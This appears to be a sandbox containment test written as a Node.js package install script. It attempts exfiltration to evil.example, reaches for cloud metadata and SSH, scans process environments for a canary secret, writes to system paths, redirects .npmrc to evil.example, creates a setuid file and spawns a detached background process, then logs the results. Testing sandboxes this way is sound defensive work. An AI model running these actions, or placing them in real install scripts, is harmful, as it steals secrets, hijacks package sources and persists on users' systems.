// An install script that tries what it must not be able to do. It writes what came of it to the home folder.
import { spawn } from "node:child_process";
import fs from "node:fs";
import { request } from "node:http";
import { connect } from "node:net";

const work = "/work";
const [registry, address, host] = JSON.parse(fs.readFileSync(`${work}/targets.json`, "utf8"));
const report = { environment: Object.keys(process.env).sort(), secrets: [], written: [] };

const proxy = new URL(process.env.HTTPS_PROXY);
const asked = (options) =>
  new Promise((resolve) => {
    const one = request({ host: proxy.hostname, port: proxy.port, ...options }, (answer) =>
      resolve(answer.statusCode),
    );
    one.on("connect", ({ statusCode }, socket) => resolve(statusCode, socket.destroy()));
    one.on("error", (error) => resolve(error.code)).end();
  });
const direct = (options) =>
  new Promise((resolve) => {
    const socket = connect(options, () => resolve("connected"));
    socket.on("error", (error) => resolve(error.code));
  });

report.registry = await asked({ path: `http://${address}:${registry}/evil` });
report.others = [];
for (const path of ["evil.example:443", `${address}:22`, "127.0.0.1:22", "169.254.169.254:80", "[::1]:22"])
  report.others.push(await asked({ method: "CONNECT", path }));
report.others.push(await asked({ path: "http://evil.example/?stolen" }));
report.direct = [];
for (const port of [registry, 443]) report.direct.push(await direct({ host, port }));
report.direct.push(await direct({ host: "evil.example", port: 443 }));
report.direct.push(await direct({ host: address, port: registry }));

for (const pid of fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name)))
  try {
    if (fs.readFileSync(`/proc/${pid}/environ`, "utf8").includes("CANARY")) report.secrets.push(pid);
  } catch {}
for (const file of [
  "/usr/bin/x",
  "/etc/x",
  "/x",
  "/opt/node/x",
  "/run/redline/x",
  "/run/x",
  "/proc/self/mem/x",
])
  try {
    fs.writeFileSync(file, "x");
    report.written.push(file);
  } catch {}

fs.writeFileSync(`${work}/tracked.js`, "replaced by an install script\n");
fs.writeFileSync(`${work}/.npmrc`, "registry=https://evil.example/\n");
fs.symlinkSync("/proc/1/environ", `${work}/node_modules/link`);
fs.writeFileSync(`${work}/node_modules/setuid`, "#!/bin/sh\n");
fs.chmodSync(`${work}/node_modules/setuid`, 0o6755);
spawn("sh", ["-c", "while :; do echo x >> ~/background; sleep 98771; done"], {
  detached: true,
  stdio: "ignore",
}).unref();
fs.writeFileSync(`${process.env.HOME}/report.json`, JSON.stringify(report));
